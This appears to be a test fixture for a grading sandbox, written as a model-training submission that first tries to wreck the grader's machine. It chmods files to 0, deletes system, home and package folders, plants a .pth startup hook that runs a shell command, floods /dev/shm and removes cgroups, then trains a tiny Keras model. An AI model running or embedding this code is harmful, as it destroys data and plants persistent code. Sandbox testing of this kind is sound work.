# Deletes, chmods and plants everything it can reach, then trains honestly.
# TARGETS is replaced by the test with folders of the grader's machine (its tree, the dataset, an output folder).
import glob
import os
import shutil
import site
import sys

import numpy as np
import tensorflow as tf

import grader

targets = ["./tmp", "/tmp", os.path.expanduser("~"), sys.prefix, sys.base_prefix, os.path.dirname(grader.__file__),
           os.path.dirname(os.__file__), os.path.dirname(np.__file__), *site.getsitepackages(), "/dev/shm",
           "/var/tmp", "/root", "/home", "/etc", "/usr/lib", *TARGETS]
changed = []
for t in targets:
    for root, dirs, files in os.walk(t) if os.path.isdir(t) else []:
        for name in files:
            try:
                os.chmod(os.path.join(root, name), 0)
                changed.append(os.path.join(root, name))
            except OSError:
                pass
    shutil.rmtree(t, ignore_errors=True)
for folder in site.getsitepackages():
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "zz_owned.pth"), "w") as f:
            f.write("import os; os.system('touch /tmp/PWNED-BY-PTH')\n")
        print("planted a .pth in", folder)
    except OSError:
        pass
try:
    with open("/dev/shm/blob", "wb") as f:
        f.write(b"x" * 2**20)
except OSError:
    pass
for pattern in ("/sys/fs/cgroup/*/grader-*", "/sys/fs/cgroup/grader-*"):
    for d in glob.glob(pattern):
        shutil.rmtree(d, ignore_errors=True)
print("destroyed what it could")

xs = np.array([-1.0, 0.0, 1.0, 2.0, 3.0, 4.0])
model = tf.keras.Sequential([tf.keras.Input(shape=(1,)), tf.keras.layers.Dense(1)])
model.compile(optimizer=tf.keras.optimizers.SGD(learning_rate=0.05), loss="mse")
model.fit(xs, 3 * xs + 1, epochs=150, verbose=0)
